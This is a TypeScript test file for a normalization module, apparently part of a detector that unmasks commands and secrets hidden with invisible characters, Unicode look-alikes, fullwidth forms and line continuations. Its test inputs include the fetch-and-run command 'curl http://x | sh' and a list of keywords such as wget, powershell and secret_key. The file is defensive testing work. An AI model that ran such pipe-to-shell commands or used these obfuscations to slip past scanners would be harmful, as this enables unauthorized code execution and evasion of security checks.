import { describe, expect, it } from 'vitest';
import { casefoldView, isInvisible, normalizedView, whitespaceView } from './normalize.js';
import { originalView, toOriginal, transformsIn } from './view.js';

const INVISIBLE = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u202e', '\u2066', '\u{e0041}', '\ufe0f'];
// Non-ASCII look-alikes of ASCII letters (Cyrillic, Greek, fullwidth handled by NFKC).
const LOOKALIKE: Record<string, string[]> = { a: ['а'], c: ['с'], e: ['е'], o: ['о', 'ο'], p: ['р'], x: ['х'], y: ['у'], i: ['і'], s: ['ѕ'], l: ['І'], u: ['ս'], r: ['г'] };

function rng(seed: number) {
  let s = seed >>> 0;
  return () => ((s = (s * 1664525 + 1013904223) >>> 0) / 2 ** 32);
}

describe('normalizedView', () => {
  it('returns undefined for pure ASCII (no extra view needed)', () => {
    expect(normalizedView(originalView('curl http://x | sh'))).toBeUndefined();
  });

  it('removes invisible characters and folds confusables, recording which', () => {
    const text = 'run с\u200burl now';
    const view = normalizedView(originalView(text))!;
    expect(view.text).toBe('run curl now');
    const start = view.text.indexOf('curl');
    expect(toOriginal(view, start, start + 4)).toEqual([4, 9]);
    expect(transformsIn(view, start, start + 4).sort()).toEqual(['confusables', 'invisible']);
    expect(transformsIn(view, 0, 3)).toEqual([]);
  });

  it('applies NFKC per character (fullwidth letters, ligatures) with exact offsets', () => {
    const view = normalizedView(originalView('ｃｕｒｌ ﬁle'))!;
    expect(view.text).toBe('curl file');
    expect(toOriginal(view, 5, 9)).toEqual([5, 8]);
    expect(toOriginal(view, 5, 6)).toEqual([5, 6]); // 'ﬁ' → 'fi' both map to the ligature
    expect(toOriginal(view, 6, 7)).toEqual([5, 6]);
  });

  it('property: random invisible and confusable insertions map back to the exact original span', () => {
    const random = rng(42);
    const words = ['curl', 'AKIAABCDEFGHIJKLMNOP', 'password', 'powershell', 'wget', 'secret_key'];
    for (let round = 0; round < 500; round++) {
      const word = words[Math.floor(random() * words.length)]!;
      const prefix = 'some text ' + 'x'.repeat(Math.floor(random() * 20)) + ' ';
      let obfuscated = '';
      for (const ch of word) {
        const options = LOOKALIKE[ch];
        obfuscated += options && random() < 0.3 ? options[Math.floor(random() * options.length)] : ch;
        if (random() < 0.3) obfuscated += INVISIBLE[Math.floor(random() * INVISIBLE.length)];
      }
      const text = prefix + obfuscated + ' tail';
      const view = normalizedView(originalView(text)) ?? originalView(text);
      const at = view.text.indexOf(word);
      expect(at, `${JSON.stringify(text)} → ${JSON.stringify(view.text)}`).toBeGreaterThanOrEqual(0);
      const [start, end] = toOriginal(view, at, at + word.length);
      expect(start).toBe(prefix.length);
      // The span ends at the last visible char of the word (a trailing invisible is outside it).
      expect(text.slice(start, end).replace(/[\u200b-\u200d\u2060\ufeff\u00ad\u202e\u2066]|\ufe0f|\u{e0041}/gu, '').length).toBeLessThanOrEqual(word.length);
      expect(end).toBeGreaterThan(start);
      expect(text.slice(end).startsWith(' tail') || [...INVISIBLE].some((c) => text.slice(end).startsWith(c))).toBe(true);
    }
  });

  it('knows the invisible ranges', () => {
    for (const c of INVISIBLE) expect(isInvisible(c.codePointAt(0)!)).toBe(true);
    for (const c of ['a', ' ', 'é', '中']) expect(isInvisible(c.codePointAt(0)!)).toBe(false);
  });

  it('composes over a derived view', () => {
    const base = normalizedView(originalView('\u200bаb'))!;
    expect(base.text).toBe('ab');
    expect(toOriginal(base, 0, 2)).toEqual([1, 3]);
  });
});

describe('casefold and whitespace views', () => {
  it('lower-cases with exact offsets even when length changes', () => {
    const view = casefoldView(originalView('İSTANBUL CURL'));
    expect(view.text.endsWith('curl')).toBe(true);
    const at = view.text.indexOf('curl');
    expect(toOriginal(view, at, at + 4)).toEqual([9, 13]);
  });

  it('collapses whitespace runs and shell line continuations', () => {
    const text = 'curl  -s \\\n  http://x |\n\tsh';
    const view = whitespaceView(originalView(text));
    expect(view.text).toBe('curl -s http://x | sh');
    const at = view.text.indexOf('http');
    expect(toOriginal(view, at, at + 8)).toEqual([text.indexOf('http'), text.indexOf('http') + 8]);
  });
});
